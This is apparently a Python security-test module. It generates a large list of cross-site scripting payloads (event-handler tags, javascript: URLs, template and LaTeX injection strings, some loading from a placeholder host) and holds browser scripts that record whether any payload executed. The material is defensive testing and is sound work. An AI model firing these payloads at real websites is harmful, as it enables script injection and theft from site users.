"""Scripts that want to run in whoever shows a text as more than a text, and what notices when one does."""

from __future__ import annotations

import itertools

CALL = "window.__pwned=1"
ELSEWHERE = "http://canary.invalid/"
HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter")
TAGS = (
    "<img src=x {on}={call}>",
    "<svg {on}={call}>",
    "<svg><image href=x {on}={call}></svg>",
    "<body {on}={call}>",
    "<input autofocus {on}={call}>",
    "<details open {on}={call}>",
    "<video src=x {on}={call}></video>",
    '"><img src=x {on}="{call}">',
    "'><img src=x {on}='{call}'>",
    '" {on}="{call}" x="',
    "' {on}='{call}' x='",
    "</title><img src=x {on}={call}>",
    "</textarea><img src=x {on}={call}>",
    "</style><img src=x {on}={call}>",
    "--><img src=x {on}={call}>",
    "]]><img src=x {on}={call}>",
    "&lt;img src=x {on}={call}&gt;",
    "<IMG/SRC=x/{on}={call}>",
    "<a {on}={call} href=#>x</a>",
    "<button {on}={call}>x</button>",
    "<select {on}={call} autofocus></select>",
    "<iframe {on}={call}></iframe>",
    "<math><mtext {on}={call}>x</mtext></math>",
    "<marquee {on}={call}>x</marquee>",
    "<p style=animation:x {on}={call}>x</p>",
    "<object data=x {on}={call}></object>",
    "\\u003cimg src=x {on}={call}\\u003e",
    "%3Cimg%20src=x%20{on}={call}%3E",
    "＜img src=x {on}={call}＞",
    "<img src='{elsewhere}' {on}={call}>",
    "<style>@import '{elsewhere}';</style><b {on}={call}>",
    "<link rel=stylesheet href='{elsewhere}' {on}={call}>",
    "<foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src=x {on}={call}></foreignObject>",
    "<template><img src=x {on}={call}></template>",
)
OTHERS = (
    "<script>{call}</script>", "</script><script>{call}</script>", "<SCRIPT SRC={elsewhere}></SCRIPT>",
    "<script type=module>{call}</script>", "<svg><script>{call}</script></svg>", "javascript:{call}",
    "JaVaScRiPt:{call}", "data:text/html,<script>{call}</script>", "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<iframe src=javascript:{call}>", "<a href=javascript:{call}>x</a>", "[x](javascript:{call})",
    "![x]({elsewhere})", "<embed src={elsewhere}>", "<object data=javascript:{call}>", "<base href={elsewhere}>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>", "<form action=javascript:{call}><button>x</form>",
    "${{{call}}}", "{{{{{call}}}}}", "#{{{call}}}", "<%={call}%>", "`${{{call}}}`", "');{call};('", '");{call};("',
    "\\href{{javascript:{call}}}{{x}}", "\\htmlData{{x={call}}}{{y}}", "\\includegraphics{{{elsewhere}}}",
    "\\url{{javascript:{call}}}", "$\\unicode{{<img src=x onerror={call}>}}$", "__proto__", "constructor",
    "toString", "hasOwnProperty", "url(javascript:{call})", "expression({call})", "<!--<img src=--><img src=x>",
    "<use href='data:image/svg+xml,<svg><script>{call}</script></svg>'>", "<set onbegin={call}>",
    "<animate onbegin={call} attributeName=x dur=1s>", "<xmp><img src=x onerror={call}></xmp>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>", "<svg><style><img src=x onerror={call}></style>",
)  # fmt: skip


def payloads(count: int) -> list[str]:
    """Give so many payloads, all different, each of at most 200 printable letters; a few are a sample of all kinds."""
    words = {"call": CALL, "elsewhere": ELSEWHERE}
    tagged = [tag.format(on=on, **words) for on, tag in itertools.product(HANDLERS, TAGS)]
    made = [other.format(**words) for other in OTHERS] + tagged
    made = [one for one in dict.fromkeys(made) if len(one) <= 200 and one.isprintable()]
    assert len(made) >= count, len(made)
    step = len(made) / count
    return [made[int(number * step)] for number in range(count)]


WATCH = """
Object.defineProperty(window, '__seen', {value: [], enumerable: false});
Object.defineProperty(window, '__pwned', {set: () => window.__seen.push('a script ran'), configurable: false});
for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => { window.__seen.push(name); };
document.addEventListener('securitypolicyviolation', (e) =>
  window.__seen.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`));
"""
"""Runs before every page: a script that runs, a dialog, and whatever the page's own policy had to stop are noted."""

TOUCH = """() => {
  for (const one of document.querySelectorAll('body *'))
    for (const type of ['pointerenter', 'mouseover', 'mousemove', 'focusin'])
      one.dispatchEvent(new Event(type, {bubbles: true}));
  const foreign = [];
  for (const one of document.querySelectorAll('*')) {
    const tag = one.localName.toLowerCase();
    const bad = ['iframe', 'object', 'embed', 'base', 'marquee', 'video', 'math', 'foreignobject', 'xmp', 'body']
      .includes(tag) && one !== document.body;
    const script = tag === 'script' && !one.src.startsWith(location.origin + '/static/');
    const acts = [...one.attributes].filter((a) => /^on/i.test(a.name)
      || (/^(href|src|action|data|formaction|xlink:href)$/i.test(a.name) && /^\\s*javascript:/i.test(a.value))
      || (/^(href|src|data)$/i.test(a.name) && a.value.includes('canary.invalid')));
    if (bad || script || acts.length) foreign.push(one.outerHTML.slice(0, 200));
  }
  return [...window.__seen, ...foreign];
}"""
"""Points at everything on a page, and gives what ran and every element that only a payload can have made."""
